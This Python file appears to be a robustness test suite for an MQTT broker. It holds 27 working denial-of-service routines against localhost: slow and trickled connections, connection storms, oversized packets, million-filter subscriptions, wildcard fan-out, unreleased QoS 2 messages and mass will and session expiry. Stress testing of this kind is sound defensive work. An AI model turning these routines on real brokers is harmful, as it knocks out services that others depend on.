"""What does a hostile peer do to an MQTT broker? Each attack runs in a process of its own until it is ended."""

from __future__ import annotations

import base64
import os
import select
import socket
import struct
import time
from collections.abc import Callable, Iterable
from contextlib import suppress
from itertools import product

from bench.wire import connected, field

MANY = 4_000
WILLS = 2_000
MiB = 1 << 20


def packet_of(first: int, body: bytes) -> bytes:
    length, digits = len(body), b""
    while True:
        digits += bytes([length & 127 | (128 if length > 127 else 0)])
        length >>= 7
        if not length:
            return bytes([first]) + digits + body


def varint(value: int) -> bytes:
    return packet_of(0, b"\0" * value)[1:-value] if value else b"\0"


def subscribed(port: int, client: bytes, topic: bytes, qos: int = 1) -> socket.socket:
    sock = connected(port, client, clean=True)
    sock.sendall(packet_of(0x82, b"\0\1" + field(topic) + bytes([qos])))
    assert sock.recv(5)[:1] == b"\x90"
    return sock


def connect_5(
    client: bytes, *, flags: int = 2, keep_alive_s: int = 0, expiry_s: int = 0, more: bytes = b"", will: bytes = b""
) -> bytes:
    properties = (b"\x11" + struct.pack("!I", expiry_s) if expiry_s else b"") + more
    head = field(b"MQTT") + bytes([5, flags]) + struct.pack("!H", keep_alive_s)
    return packet_of(0x10, head + varint(len(properties)) + properties + field(client) + will)


def connected_5(port: int, client: bytes, **fields: object) -> socket.socket:
    sock = socket.create_connection(("127.0.0.1", port))
    sock.sendall(connect_5(client, **fields))  # type: ignore[arg-type]
    assert sock.recv(4_096)[3:4] == b"\0"
    return sock


def drained(sock: socket.socket) -> None:
    """Read what is there, and no more."""
    while select.select([sock], [], [], 0)[0]:
        if not sock.recv(65_536):
            raise ConnectionError("closed")


def subscribe_all(sock: socket.socket, filters: Iterable[bytes]) -> None:
    """Send SUBSCRIBE packets of 100 filters (with what comes behind each of them)."""
    wanted = list(filters)
    for first in range(0, len(wanted), 100):
        sock.sendall(packet_of(0x82, struct.pack("!H", first // 100 + 1) + b"".join(wanted[first : first + 100])))
        drained(sock)
    time.sleep(0.5)
    drained(sock)


# -- connections that never become clients ----------------------------------------------------------------------------------------


def silent(port: int) -> None:
    """Connections that never say anything, opened again as the broker closes them."""
    held: list[socket.socket] = []
    while True:
        if len(held) >= MANY:
            held.pop(0).close()
        held.append(socket.create_connection(("127.0.0.1", port)))
        if len(held) >= MANY:
            time.sleep(0.002)


def trickled(port: int) -> None:
    """CONNECT packets that come byte by byte."""
    socks = [socket.create_connection(("127.0.0.1", port)) for _ in range(500)]
    data = packet_of(0x10, field(b"MQTT") + bytes([4, 2, 0, 60]) + field(b"x" * 100))
    for at in range(len(data) - 1):
        for sock in socks:
            with suppress(OSError):
                sock.sendall(data[at : at + 1])
        time.sleep(0.1)
    time.sleep(60)


def upgrades(port: int) -> None:
    """WebSocket upgrades that are never finished, on the TCP port."""
    while True:
        socks = [socket.create_connection(("127.0.0.1", port)) for _ in range(500)]
        for line in range(200):
            for sock in socks:
                with suppress(OSError):
                    sock.sendall(b"GET /mqtt HTTP/1.1\r\n" if not line else b"X-%d: y\r\n" % line)
            time.sleep(0.05)


def storm(port: int) -> None:
    """Connects and leaves as fast as it can."""
    while True:
        connected(port, b"storm", clean=True).close()


def takeovers(port: int) -> None:
    """Two clients that take the same identifier from each other, over and over."""
    while True:
        first = connected(port, b"both", clean=False)
        second = connected(port, b"both", clean=False)
        first.close()
        second.close()


def garbage(port: int) -> None:
    """Random bytes behind a proper CONNECT."""
    while True:
        sock = connected(port, b"garbage", clean=True)
        with suppress(OSError):
            sock.sendall(os.urandom(2_000))
        sock.close()
        time.sleep(0.002)


def heavy_connects(port: int) -> None:
    """CONNECTs of half a MiB: user properties, five bytes each."""
    data = connect_5(b"heavy", more=b"\x26\0\0\0\0" * 100_000)
    while True:
        sock = socket.create_connection(("127.0.0.1", port))
        with suppress(OSError):
            sock.sendall(data)
            sock.settimeout(5)
            sock.recv(100)
        sock.close()


# -- packets ----------------------------------------------------------------------------------------------------------------------


def half(port: int) -> None:
    """Large packets that are never finished, as many as are let in."""
    socks: list[socket.socket] = []
    front = b"\x30" + b"\x80\x80\xf0\x01" + field(b"half")
    while len(socks) < 300:
        with suppress(OSError):
            sock = connected(port, b"half%d" % len(socks), clean=True)
            sock.settimeout(1)
            socks.append(sock)
            sock.sendall(front + b"x" * 3 * MiB)
    while True:
        for sock in socks:
            with suppress(OSError):
                sock.sendall(b"x" * 100)
        time.sleep(0.05)


def fragments(port: int) -> None:
    """WebSocket messages in frames of one byte and of none, without an end."""
    key = base64.b64encode(os.urandom(16))
    sock = socket.create_connection(("127.0.0.1", port))
    sock.sendall(
        b"GET / HTTP/1.1\r\nHost: x\r\nUpgrade: websocket\r\nConnection: Upgrade\r\nSec-WebSocket-Version: 13\r\n"
        b"Sec-WebSocket-Key: " + key + b"\r\nSec-WebSocket-Protocol: mqtt\r\n\r\n"
    )
    assert b"101" in sock.recv(4_096)
    connect = packet_of(0x10, field(b"MQTT") + bytes([4, 2, 0, 0]) + field(b"fragments"))
    sock.sendall(b"\x02" + bytes([0x80 | len(connect)]) + bytes(4) + connect)
    sock.sendall(b"\x00\x81" + bytes(4) + b"\x30" + (b"\x00\x81" + bytes(4) + b"\xff") * 2 + b"\x00\x81" + bytes(4) + b"\x7f")
    frames = (b"\x00\x80" + bytes(4)) * 20 + b"\x00\x81" + bytes(4) + b"x"
    while True:
        sock.sendall(frames * 500)


def filters(port: int) -> None:
    """SUBSCRIBE packets with a million topic filters."""
    data = packet_of(0x82, b"\0\1" + b"\0\1a\0" * (MiB - 1))
    while True:
        with suppress(OSError):
            sock = connected(port, b"filters", clean=True)
            sock.sendall(data)
            sock.settimeout(20)
            while sock.recv(65_536):
                pass


def properties(port: int) -> None:
    """PUBLISH packets with 800,000 user properties."""
    raw = b"\x26\0\0\0\0" * 800_000
    data = packet_of(0x32, field(b"properties") + b"\0\1" + varint(len(raw)) + raw)
    while True:
        with suppress(OSError):
            sock = connected_5(port, b"properties")
            sock.settimeout(20)
            while True:
                sock.sendall(data)
                assert sock.recv(100)[0] == 0x40


def huge(port: int) -> None:
    """Packets of nearly the size that is allowed, one after the other."""
    sock = connected(port, b"huge", clean=True)
    data = packet_of(0x30, field(b"huge") + b"x" * 4_000_000)
    while True:
        sock.sendall(data)
        time.sleep(0.02)


def levels(port: int) -> None:
    """Topics and filters of hundreds of levels."""
    sock = connected(port, b"levels", clean=True)
    topic = b"/".join([b"a"] * 190)
    while True:
        sock.sendall(packet_of(0x82, b"\0\1" + field(b"/".join([b"+"] * 190)) + b"\0"))
        sock.sendall(packet_of(0x30, field(topic) + b"x") * 20)
        time.sleep(0.002)
        drained(sock)


# -- subscriptions ----------------------------------------------------------------------------------------------------------------


def deaf(port: int) -> None:
    """Subscribers that never read what a fast publisher sends."""
    socks = [subscribed(port, b"deaf%d" % n, b"flood/#") for n in range(20)]
    publisher = connected(port, b"flooder", clean=True)
    body = packet_of(0x30, field(b"flood/x") + b"y" * 1_000) * 50
    while socks:
        publisher.sendall(body)
        time.sleep(0.002)


def deaf_share(port: int) -> None:
    """A shared subscription of which nobody reads, and a fast publisher."""
    sock = subscribed(port, b"deaf", b"$share/g/flood/#", 0)
    publisher = connected(port, b"flooder", clean=True)
    body = packet_of(0x30, field(b"flood/x") + b"y" * 4_000) * 50
    while sock:
        publisher.sendall(body)
        time.sleep(0.004)


def subscriptions(port: int) -> None:
    """100,000 topic filters from one client, all at once, then away, and again."""
    while True:
        with suppress(OSError):
            sock = connected(port, b"subscriber", clean=True)
            subscribe_all(sock, (field(b"s/%d/+/x" % n) + b"\1" for n in range(100_000)))
            sock.close()


def deep(port: int) -> None:
    """Filters of 190 levels that have nothing in common, as many as are taken."""
    sock = connected(port, b"deep", clean=True)
    subscribe_all(sock, (field(b"/".join(b"%x" % ((n * 190 + at) % 4_093) for at in range(190))) + b"\0" for n in range(5_000)))
    time.sleep(60)


def wildcards(port: int) -> None:
    """4,096 filters that all match each of the topics that come."""
    sock = connected(port, b"wild", clean=True)
    subscribe_all(sock, (field(b"/".join(words) + b"/#") + b"\0" for words in product((b"a", b"+"), repeat=12)))
    publisher = connected(port, b"wild publisher", clean=True)
    front = b"/".join([b"a"] * 12)
    number = 0
    while True:
        publisher.sendall(b"".join(packet_of(0x30, field(b"%b/%d" % (front, n)) + b"x") for n in range(number, number + 2_000)))
        number += 2_000
        drained(sock)


def wildcards_anew(port: int) -> None:
    """4,096 filters that all match, and a publisher that connects anew for each 100 topics."""
    sock = connected(port, b"wild", clean=True)
    subscribe_all(sock, (field(b"/".join(words) + b"/#") + b"\0" for words in product((b"a", b"+"), repeat=12)))
    front = b"/".join([b"a"] * 12)
    number = 0
    while True:
        publisher = connected(port, b"wild publisher", clean=True)
        publisher.sendall(b"".join(packet_of(0x30, field(b"%b/%d" % (front, n)) + b"x") for n in range(number, number + 100)))
        number += 100
        publisher.sendall(packet_of(0xC0, b""))
        publisher.recv(2)
        publisher.close()
        drained(sock)


def identifiers(port: int) -> None:
    """4,096 overlapping filters, each with an identifier of its own."""
    sock = connected_5(port, b"ids")
    for number, words in enumerate(product((b"a", b"+"), repeat=12), 1):
        sock.sendall(_identified(number, words))
        drained(sock)
    publisher = connected(port, b"ids publisher", clean=True)
    data = packet_of(0x30, field(b"/".join([b"a"] * 12)) + b"x") * 2_000
    while True:
        publisher.sendall(data)
        drained(sock)


def _identified(number: int, words: tuple[bytes, ...]) -> bytes:
    identifier = bytes([number & 127 | 128, number >> 7 & 127 | 128, 128 | 1, 1])
    return packet_of(0x82, struct.pack("!H", number) + b"\5\x0b" + identifier + field(b"/".join(words)) + b"\0")


def groups(port: int) -> None:
    """Shared subscriptions that are made and left."""
    sock = connected(port, b"groups", clean=True)
    number = 0
    while True:
        for _ in range(50):
            number += 1
            name = field(b"$share/g%d/x" % number)
            sock.sendall(packet_of(0x82, b"\0\1" + name + b"\1") + packet_of(0xA2, b"\0\2" + name))
        time.sleep(0.01)
        drained(sock)


# -- state ------------------------------------------------------------------------------------------------------------------------


def topics(port: int) -> None:
    """Millions of topics, from clients that want nothing back of what they send."""
    socks = []
    for n in range(20):
        sock = connected_5(port, b"topics%d" % n)
        sock.sendall(packet_of(0x82, b"\0\1\0" + field(b"mine/#") + b"\4"))
        socks.append(sock)
    number = 0
    while True:
        for n, sock in enumerate(socks):
            names = (b"t/%d/%d/%b" % (n, at, b"x" * 200) for at in range(number, number + 200))
            sock.sendall(b"".join(packet_of(0x30, field(name) + b"\0") for name in names))
            drained(sock)
        number += 200


def exchanges_open(port: int) -> None:
    """65,535 messages of QoS 2 that are never released, from each of some sessions."""
    for client in range(1_000):
        sock = connected(port, b"open%d" % client, clean=False)
        for first in range(1, 65_536, 1_000):
            numbers = range(first, min(first + 1_000, 65_536))
            sock.sendall(b"".join(packet_of(0x34, field(b"q") + struct.pack("!H", n) + b"x") for n in numbers))
            drained(sock)


def strange_acks(port: int) -> None:
    """PUBACKs for nothing, from a client that has left 1,000 messages unacknowledged."""
    sock = connected(port, b"acks", clean=False)
    sock.sendall(packet_of(0x82, b"\0\1" + field(b"acks") + b"\1"))
    for n in range(1_000):
        sock.sendall(packet_of(0x32, field(b"acks") + struct.pack("!H", n + 1) + b"x"))
    time.sleep(0.5)
    drained(sock)
    sock.close()
    sock = connected_5(port, b"acks", flags=0, expiry_s=1_000, more=b"\x21\0\1")
    data = b"\x40\x02\xff\xfe" * 16_000
    while True:
        sock.sendall(data)


def wills(port: int) -> None:
    """2,000 clients with wills that are lost at once, again and again."""
    will = field(b"will/of/them") + field(b"x" * 100)
    while True:
        socks = [socket.create_connection(("127.0.0.1", port)) for _ in range(WILLS)]
        for n, sock in enumerate(socks):
            sock.sendall(packet_of(0x10, field(b"MQTT") + bytes([4, 0x0E, 0, 0]) + field(b"w%d" % n) + will))
            sock.recv(4)
        time.sleep(0.3)
        for sock in socks:
            sock.setsockopt(socket.SOL_SOCKET, socket.SO_LINGER, struct.pack("ii", 1, 0))
            sock.close()


def quiet(port: int) -> None:
    """2,000 clients with wills, 20 subscriptions and a keep alive that fall silent at the same moment."""
    will = field(b"will/of/them") + field(b"x" * 100)
    wanted = b"".join(field(b"q/%d" % n) + b"\1" for n in range(20))
    while True:
        socks = [socket.create_connection(("127.0.0.1", port)) for _ in range(WILLS)]
        for n, sock in enumerate(socks):
            sock.sendall(packet_of(0x10, field(b"MQTT") + bytes([4, 0x0E, 0, 2]) + field(b"s%d" % n) + will))
            sock.sendall(packet_of(0x82, b"\0\1" + wanted))
        time.sleep(4)


def expiring(port: int) -> None:
    """Sessions with 20 subscriptions each, made by clients that never come back; 2,000 expire at the same moment."""
    wanted = b"".join(field(b"e/%d" % n) + b"\1" for n in range(20))
    while True:
        for n in range(WILLS):
            sock = connected_5(port, b"e%d" % n, expiry_s=2)
            sock.sendall(packet_of(0x82, b"\0\1\0" + wanted))
            sock.recv(100)
            sock.close()
        time.sleep(1)


ATTACKS: list[Callable[[int], None]] = [
    silent, trickled, upgrades, storm, takeovers, garbage, heavy_connects,
    half, fragments, filters, properties, huge, levels,
    deaf, deaf_share, subscriptions, deep, wildcards, wildcards_anew, identifiers, groups,
    topics, exchanges_open, strange_acks, wills, quiet, expiring,
]  # fmt: skip
